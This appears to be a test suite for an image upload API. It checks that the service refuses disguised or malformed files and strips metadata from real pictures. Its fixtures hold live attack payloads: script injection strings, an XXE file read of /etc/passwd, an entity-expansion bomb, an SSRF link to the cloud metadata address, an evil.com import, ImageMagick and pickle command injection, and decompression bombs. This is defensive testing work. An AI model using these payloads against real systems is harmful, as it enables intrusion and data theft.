/** Files that are something else, or more, than a picture. What is passed on of one is its pixels. */
import assert from 'node:assert/strict'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { after, before, describe, test } from 'node:test'
import sharp from 'sharp'
import { assertTold, bearer, startStage, type Stage } from '../support/attacks.ts'
import { fill } from '../support/media-files.ts'
import { sql, storedFiles } from '../support/supabase.ts'
import type { Wire } from '../support/wire.ts'

const MARK = 'PAYLOAD-OF-THE-ATTACKER'
const SCRIPT = `<script>alert("${MARK}")</script><?php system("${MARK}"); ?>`

let stage: Stage
const made: Record<string, Buffer> = {}
before(async () => {
  stage = await startStage()
  const noise = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 30 } } })
  const black = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: 'black' } })
  const frames = await Promise.all(['red', 'blue'].map((background) => sharp({ create: { width: 64, height: 64, channels: 3, background } }).png().toBuffer()))
  const animation = await sharp(frames, { join: { animated: true } }).gif().toBuffer()
  Object.assign(made, {
    jpeg: await noise(256, 256).jpeg().toBuffer(),
    png: await noise(256, 256).png().toBuffer(),
    webp: await noise(256, 256).webp().toBuffer(),
    gif: await noise(64, 64).gif().toBuffer(),
    animatedGif: animation,
    animatedWebp: await sharp(animation, { animated: true }).webp({ loop: 0 }).toBuffer(),
    tiff: await noise(64, 64).tiff().toBuffer(),
    avif: await noise(64, 64).avif({ effort: 0 }).toBuffer(),
    bomb: await black(8000, 7000).png().toBuffer(),
    longBomb: await black(40_000, 40).png().toBuffer(),
    tiny: await noise(1, 1).png().toBuffer(),
    exif: await noise(256, 256).withExif({ IFD0: { Copyright: SCRIPT, ImageDescription: MARK }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } }).withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><a>${MARK}</a></x:xmpmeta>`).jpeg().toBuffer(),
    webpXmp: await noise(256, 256).withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><a>${MARK}</a></x:xmpmeta>`).webp().toBuffer(),
  })
})
after(() => stage.close())

const text = (value: string) => Buffer.from(value, 'latin1')
const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? text(part) : part)))
const number = (value: number, bytes = 4) => Buffer.from(value.toString(16).padStart(bytes * 2, '0'), 'hex')
const chunk = (type: string, data: Buffer) => join(number(data.length), type, data, number(crc32(join(type, data))))
const times = (count: number, bytes: Buffer) => Buffer.alloc(count * bytes.length, bytes)
const PNG = Buffer.from('89504e470d0a1a0a', 'hex')
const header = (width: number, height: number) => chunk('IHDR', join(number(width), number(height), Buffer.from('0802000000', 'hex')))
const END = chunk('IEND', Buffer.alloc(0))
/** A PNG whose header promises what its few bytes do not hold. */
const promised = (width: number, height: number) => join(PNG, header(width, height), chunk('IDAT', deflateSync(Buffer.alloc(1000))), END)
/** A chunk right behind the header. */
const withChunk = (type: string, data: Buffer) => join(made.png!.subarray(0, 33), chunk(type, data), made.png!.subarray(33))
/** A segment right behind a JPEG's first mark. */
const withSegment = (marker: number, data: Buffer) => join(Buffer.from([0xff, 0xd8, 0xff, marker]), number(data.length + 2, 2), data, made.jpeg!.subarray(2))
const claimed = (width: number, height: number) => {
  const bytes = Buffer.from(made.jpeg!)
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]))
  bytes.writeUInt16BE(height, frame + 5)
  bytes.writeUInt16BE(width, frame + 7)
  return bytes
}
const broken = (bytes: Buffer) => Buffer.from(bytes).fill(0x41, bytes.length >> 1, (bytes.length >> 1) + 200)
const svg = (content: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300">${content}</svg>`
const XXE = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">${Array.from('bcdefghij', (name, index) => `<!ENTITY ${name} "${`&${String.fromCharCode(97 + index)};`.repeat(10)}">`).join('')}]>${svg('&j;')}`

type Refused = [name: string, bytes: () => Buffer, status?: number, claims?: { type?: string; name?: string }]

const REFUSED: Refused[] = [
  ['nothing', () => Buffer.alloc(0), 400],
  ['one byte', () => text('x')],
  ['text', () => text('A picture, honestly.')],
  ['HTML called a JPEG', () => text(`<!doctype html>${SCRIPT}`), 415, { type: 'image/jpeg', name: 'a.jpg' }],
  ['SVG', () => text(svg(SCRIPT)), 415, { type: 'image/svg+xml', name: 'a.svg' }],
  ['SVG called a PNG', () => text(svg(SCRIPT)), 415, { type: 'image/png', name: 'a.png' }],
  ['SVG behind a comment', () => text(`<!-- ${'x'.repeat(5000)} -->${svg('')}`)],
  ['SVG that reads a file', () => text(XXE)],
  ['SVG that laughs a billion times', () => text(LAUGHS)],
  ['SVG that asks another server', () => text(svg('<image href="http://169.254.169.254/latest/meta-data/"/>'))],
  ['SVG, compressed', () => gzipSync(svg(SCRIPT))],
  ['SVG in UTF-16', () => Buffer.from(`\ufeff${svg(SCRIPT)}`, 'utf16le')],
  ['JavaScript', () => text('import "https://evil.com/x.js"')],
  ['a script', () => text('#!/bin/sh\nid')],
  ['PHP called a JPEG', () => text(SCRIPT), 415, { type: 'image/jpeg', name: 'a.php.jpg' }],
  ['ImageMagick’s own language', () => text("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|id\")'\npop graphic-context")],
  ['PostScript', () => text('%!PS\n(/etc/passwd) (r) file')],
  ['PDF', () => text('%PDF-1.7\n1 0 obj')],
  ['GIF', () => made.gif!],
  ['GIF that moves', () => made.animatedGif!],
  ['GIF that is JavaScript', () => text(`GIF89a/*${'\0'.repeat(100)}*/=1;alert("${MARK}")`)],
  ['TIFF', () => made.tiff!],
  ['BigTIFF', () => Buffer.from('49492b0008000000ffffffffffffffff', 'hex')],
  ['AVIF', () => made.avif!],
  ['HEIC', () => fill(join(Buffer.from('00000018', 'hex'), 'ftypheic', Buffer.alloc(4), 'heicmif1'), 500)],
  ['BMP', () => fill(join('BM', Buffer.from('36000300000000003600000028000000', 'hex')), 500)],
  ['ICO', () => fill(Buffer.from('00000100010010100000010020006804', 'hex'), 500)],
  ['PSD', () => fill(text('8BPS\0\x01'), 500)],
  ['JPEG 2000', () => fill(Buffer.from('0000000c6a5020200d0a870a', 'hex'), 500)],
  ['JPEG XL', () => fill(Buffer.from('ff0a', 'hex'), 500)],
  ['OpenEXR', () => fill(Buffer.from('762f310102000000', 'hex'), 500)],
  ['MP4', () => fill(join(Buffer.from('00000018', 'hex'), 'ftypisom'), 500)],
  ['ZIP', () => fill(Buffer.from('504b030414000000', 'hex'), 500)],
  ['a program', () => fill(Buffer.from('7f454c4602010100', 'hex'), 500)],
  ['a pickle', () => text('cos\nsystem\n(S"id"\ntR.')],
  ['a picture behind HTML', () => join(`<html>${SCRIPT}`, made.png!)],
  ['a ZIP in front of a picture', () => join(Buffer.from('504b030414000000', 'hex'), made.jpeg!)],
  ['PNG of four thousand million pixels a side', () => promised(0x7fffffff, 0x7fffffff), 400],
  ['PNG of two gigapixels', () => promised(50_000, 50_000), 400],
  ['PNG without a side', () => promised(0, 0), 400],
  ['PNG that is too long', () => made.longBomb!, 400],
  ['PNG of fifty-six megapixels in a few bytes', () => made.bomb!, 400],
  ['PNG of a megapixel, with a row of it', () => promised(1000, 1000), 400],
  ['JPEG of sixty-five thousand pixels a side', () => claimed(65_535, 65_535), 400],
  ['JPEG without a side', () => claimed(0, 0), 400],
  ['JPEG of ten times its lines', () => claimed(2560, 2560), 400],
  ['WebP of sixteen thousand pixels a side', () => join('RIFF', Buffer.from([22, 0, 0, 0]), 'WEBPVP8X', Buffer.from([10, 0, 0, 0, 0, 0, 0, 0, 0xff, 0x3f, 0, 0xff, 0x3f, 0])), 400],
  ['WebP that moves', () => made.animatedWebp!, 400],
  ['PNG that moves', () => withChunk('acTL', Buffer.from('0000000200000000', 'hex')), 400],
  ['PNG of one pixel', () => made.tiny!, 400],
  ['PNG of fifty thousand empty chunks', () => join(PNG, header(256, 256), times(50_000, chunk('teXt', Buffer.alloc(0)))), 400],
  ['ZIP of twenty thousand files', () => times(20_000, join(Buffer.from('504b03041400', 'hex'), Buffer.alloc(20), Buffer.from('01000000', 'hex'), 'a'))],
  ['gzip of fifty megabytes', () => gzipSync(Buffer.alloc(50_000_000))],
  ['gzip in gzip in gzip', () => Array.from({ length: 500 }).reduce<Buffer>((inner) => gzipSync(inner), text(svg(SCRIPT)))],
  ['PNG that is only its signature', () => PNG, 415],
  ['PNG that is only its header', () => join(PNG, header(256, 256)), 400],
  ['PNG without pixels', () => join(PNG, header(256, 256), END), 400],
  ['PNG with a chunk without end', () => join(PNG, header(256, 256), Buffer.from('7fffffff49444154', 'hex'), Buffer.alloc(64)), 400],
  ['PNG with a wrong sum', () => broken(made.png!), 400],
  ['PNG cut in half', () => made.png!.subarray(0, made.png!.length >> 1), 400],
  ['JPEG cut in half', () => made.jpeg!.subarray(0, made.jpeg!.length >> 1), 400],
  ['WebP cut in half', () => made.webp!.subarray(0, made.webp!.length >> 1), 400],
  ['JPEG that is only its mark', () => Buffer.from('ffd8ffe000104a46494600010100', 'hex'), 400],
  ['a JPEG’s mark in front of HTML', () => join(Buffer.from('ffd8ffe0', 'hex'), SCRIPT), 400],
  ['a PNG’s mark in front of JavaScript', () => join(PNG, SCRIPT), 415],
  ['a WebP’s mark in front of nothing', () => text('RIFF\xff\xff\xff\x7fWEBPVP8 '), 400],
]

/** Real pictures that bring something along: let in, without it. */
const DISARMED: Record<string, () => Buffer> = {
  'a JPEG with a ZIP behind it': () => join(made.jpeg!, Buffer.from('504b0304', 'hex'), MARK),
  'a JPEG with a PHAR behind it': () => join(made.jpeg!, `<?php __HALT_COMPILER(); ?>${MARK}GBMB`),
  'a JPEG with another behind it': () => join(made.jpeg!, MARK, made.jpeg!),
  'a JPEG with its place and a script for its owner': () => made.exif!,
  'a JPEG with a script for a comment': () => withSegment(0xfe, text(SCRIPT)),
  'a JPEG with a profile of rubbish': () => withSegment(0xe2, text(`ICC_PROFILE\0\x01\x01${SCRIPT}`)),
  'a JPEG with sixty-five thousand bytes of comment': () => withSegment(0xfe, text(MARK.repeat(2800))),
  'a PNG with HTML behind it': () => join(made.png!, SCRIPT),
  'a PNG with a text': () => withChunk('tEXt', text(`Comment\0${SCRIPT}`)),
  'a PNG with an international text': () => withChunk('iTXt', text(`XML:com.adobe.xmp\0\0\0\0\0${SCRIPT}`)),
  'a PNG with a text of forty megabytes, compressed': () => withChunk('zTXt', join('Comment\0\0', deflateSync(Buffer.alloc(40_000_000, MARK)))),
  'a PNG with a chunk that nobody knows': () => withChunk('evIl', text(SCRIPT)),
  'a PNG with a place to go back to': () => withChunk('eXIf', text(`MM\0*${MARK}`)),
  'a WebP with XMP': () => made.webpXmp!,
  'a WebP with a ZIP behind it': () => join(made.webp!, Buffer.from('504b0304', 'hex'), MARK),
}

async function upload(route: string, bytes: Buffer, { type = 'image/png', name = 'picture.png', field = 'image', fields = {} as Record<string, string> } = {}): Promise<Wire> {
  const form = new FormData()
  for (const [key, value] of Object.entries({ prompt: 'A cat', ...fields })) form.set(key, value)
  form.set(field, new Blob([Uint8Array.from(bytes)], { type }), name)
  const encoded = new Response(form)
  return { method: 'POST', target: route, headers: [bearer(stage.attacker.token), ['Content-Type', encoded.headers.get('content-type')!]], body: new Uint8Array(await encoded.arrayBuffer()) }
}

const MODEL = { model: 'seedream-4-0-250828' }
describe('a picture to be changed that is', { concurrency: 4 }, () => {
  for (const [name, bytes, status = 415, claims] of REFUSED) {
    test(`${name} is refused`, async () => assertTold(await stage.send(await upload('/api/images/edit', bytes(), { fields: MODEL, ...claims })), status, status === 415 ? 'unsupported_media_type' : 'invalid_request'))
  }
})

describe('a first frame that is', { concurrency: 4 }, () => {
  for (const [name, bytes, status = 415] of REFUSED.filter(([what, , , claims]) => claims === undefined && what !== 'nothing')) {
    test(`${name} is refused`, async () => assertTold(await stage.send(await upload('/api/videos/generate', bytes(), { fields: { model: 'seedance-1-0-pro-250528' } })), status))
  }
})

test('nobody came to harm', () => stage.assertUnharmed())

describe('of a picture with more than its pixels only those are passed on:', () => {
  for (const [name, bytes] of Object.entries(DISARMED)) {
    test(name, async () => {
      const answer = await stage.send(await upload('/api/images/edit', bytes(), { fields: MODEL }))
      assertTold(answer, 200)
      const sent = Buffer.from((stage.service.simulator.requests.at(-1)!.body.image as string).split(',')[1]!, 'base64')
      const { format, width, height, exif, icc, xmp, iptc, comments } = await sharp(sent).metadata()
      assert.deepEqual([format, width, height, exif, icc, xmp, iptc, comments], ['jpeg', 256, 256, ...Array<undefined>(5).fill(undefined)])
      assert.deepEqual([sent.includes(MARK), sent.includes('PK\x03\x04'), sent.subarray(-2).toString('hex')], [false, false, 'ffd9'])
    })
  }

  test('and nothing else is kept anywhere', async () => {
    assert.deepEqual(await sql('select from darkroom.inputs where generation_id in (select id from public.generations where user_id = $1)', [stage.attacker.id]), [])
    assert.equal((await storedFiles(stage.attacker.id)).length, 2 * Object.keys(DISARMED).length)
    assert.equal(JSON.stringify(stage.service.log).includes(MARK), false)
  })
})
